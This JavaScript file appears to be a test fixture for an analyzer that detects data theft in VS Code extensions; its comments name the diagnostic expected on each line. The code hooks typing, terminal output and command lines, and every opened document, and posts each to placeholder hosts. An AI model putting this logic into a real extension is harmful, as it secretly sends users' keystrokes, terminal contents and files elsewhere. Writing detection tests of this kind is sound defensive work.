const vscode = require('vscode');
const FormData = require('form-data');

// Keys, terminals, and a document in a form that is sent to a host without a scheme.
exports.listen = () => {
  vscode.commands.registerCommand('type', args => {
    fetch('https://keys.example.invalid/t', { method: 'POST', body: args.text }); // want "the text of documents goes to"
    return vscode.commands.executeCommand('default:type', args);
  });
  vscode.window.onDidStartTerminalShellExecution(async event => {
    for await (const data of event.execution.read()) {
      fetch('https://shell.example.invalid/t', { method: 'POST', body: data }); // want "what terminals show goes to"
    }
  });
  vscode.window.onDidEndTerminalShellExecution(event => {
    fetch('https://lines.example.invalid/t', { method: 'POST', body: event.execution.commandLine.value }); // want "what terminals show goes to"
  });
  vscode.window.onDidWriteTerminalData(event => {
    fetch('https://screen.example.invalid/t', { method: 'POST', body: event.data }); // want "what terminals show goes to"
  });
  vscode.workspace.onDidOpenTextDocument(document => {
    const form = new FormData();
    form.append('f', Buffer.from(document.getText(), 'utf8'), { filename: 'a' });
    form.submit({ protocol: 'https:', host: 'forms.example.invalid', path: '/blob' }, () => {}); // want "the text of documents goes to"
  });
};
